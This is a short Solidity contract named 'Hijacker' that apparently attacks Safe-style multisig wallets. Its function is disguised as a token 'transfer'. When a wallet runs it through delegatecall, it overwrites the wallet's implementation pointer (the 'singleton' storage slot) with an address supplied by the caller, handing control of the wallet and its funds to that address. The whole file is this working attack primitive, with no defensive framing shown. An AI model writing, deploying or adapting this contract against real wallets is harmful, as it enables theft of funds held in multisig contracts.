// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Run as a safe, a "transfer" that puts another contract behind it.
contract Hijacker {
    address private singleton;

    function transfer(address to, uint256) external returns (bool) {
        singleton = to;
        return true;
    }
}
